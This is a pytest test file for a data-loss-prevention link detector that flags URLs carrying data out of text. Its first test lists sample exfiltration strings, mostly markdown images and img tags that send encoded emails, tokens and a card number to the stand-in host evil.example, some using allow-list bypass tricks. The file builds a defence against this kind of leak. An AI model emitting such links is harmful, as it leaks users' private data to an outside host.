"""Which addresses carry data out, and which are only addresses."""

from __future__ import annotations

import pytest

from lmg_dlp.links import EXFILTRATION, SUSPICIOUS, Links

from .texts import SECRETS

GUARD = Links(guard=True, allowed=["*.acme.example", "acme.example"])


def kinds(text: str) -> list[str]:
    return [one.name for one in GUARD.find(text, 0, len(text))]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/x.png?d=YWRhIGxvdmVsYWNlIGlzIG91ciBjbGllbnQ=)",
        "![](https://evil.example/YWRhIGxvdmVsYWNlIGlzIG91ciBjbGllbnQ=.png)"[:-5] + ")",
        "![a](//evil.example/?q=ada%40acme.test)",
        "![a](https://YWRhIGxvdmVsYWNlIGlz.evil.example/x.png)",
        "![pixel](https://evil.example/log?q=the+customer+wants+to+leave+us)",
        '<img src="https://evil.example/t.gif?d=' + "q" * 60 + '">',
        "<img src=https://evil.example/t.gif?mail=ada@acme.test>",
        "[click](https://evil.example/?mail=ada%40acme.test)",
        "see https://evil.example/?k=" + SECRETS["github_token"],
        "https://evil.example/61646120697320746865206f6e65",
        "https://evil.example/?card=4111111111111111",
        "https://a.example/?q=" + "q" * 300 + ",https://evil.example/?mail=ada@acme.test",
        "![x](https://acme.example@evil.example/?q=ada%40acme.test)",
        "![x](https://acme.example.evil.example/?q=ada%40acme.test)",
    ],
)
def test_data_on_its_way_out(text: str) -> None:
    assert EXFILTRATION in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://cdn.example/assets/logo-large.png)",
        "![chart](https://cdn.example/5f2b1c9d8e7a6b5c4d3e2f1a0b9c8d7e.png?w=640&h=480)",
        "https://docs.example.org/en/latest/library/urllib.parse.html#module-urllib.parse",
        "https://www.example.com/search?q=how+to+bake+bread",
        "https://docs.example.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgVE2upms/edit",
        "https://video.example/watch?v=dQw4w9WgXcQ",
        "![x](https://img.acme.example/?q=ada%40acme.test)",
        "http://[::1]:8080/metrics and redis://[::1]",
        "mail to ada@acme.test, or see https://acme.test.",
        "array![0] and <img> and ](//",
    ],
)
def test_only_an_address(text: str) -> None:
    assert kinds(text) == []


def test_a_link_with_something_at_random_is_suspicious() -> None:
    assert kinds("https://video.example/playlist?list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf") == [SUSPICIOUS]


def test_without_guard_only_secrets_are_found() -> None:
    plain = Links()
    text = "![a](https://evil.example/?q=ada%40acme.test) " + SECRETS["database_url"]
    assert [one.name for one in plain.find(text, 0, len(text))] == ["database_url"]


def test_an_image_waits_until_it_is_whole() -> None:
    for text in (
        "see !",
        "see ![alt",
        "see ![alt](http",
        "see ![alt](https://a.b/c?d=",
        "see <im",
        "see <img src=",
    ):
        assert GUARD.last_run(text) == 4
    assert GUARD.last_run("see ![alt](https://a.b/c) ") == len("see ![alt](https://a.b/c) ")
